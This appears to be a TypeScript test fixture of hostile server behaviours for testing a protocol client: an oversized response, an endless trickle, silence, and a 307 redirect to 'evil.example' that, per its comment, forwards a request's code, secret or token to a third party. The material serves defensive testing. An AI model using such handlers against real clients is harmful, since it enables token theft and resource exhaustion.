import type { Takeover } from './tricks.ts'

const JSON_TYPE = { 'content-type': 'application/json' }

/** Larger than any answer of the protocol, and still one that ends. */
export const hugeAnswer: Takeover = (response) => {
  response.writeHead(200, JSON_TYPE).end(`{"padding":"${'x'.repeat(3_000_000)}"}`)
}

/** Sends a byte now and then, and never an end. */
export const endlessAnswer: Takeover = (response) => {
  response.writeHead(200, JSON_TYPE).write('{"padding":"')
  const timer = setInterval(() => response.write('x'), 50)
  response.on('close', () => clearInterval(timer))
}

/** Takes the request and says nothing. */
export const noAnswer: Takeover = () => {}

/** Sends the request's code, secret or token on to somebody else. */
export const redirect: Takeover = (response) => {
  response.writeHead(307, { location: 'https://evil.example/' }).end()
}

export const page: Takeover = (response) => {
  response.writeHead(200, { 'content-type': 'text/html' }).end('<h1>Welcome</h1>')
}
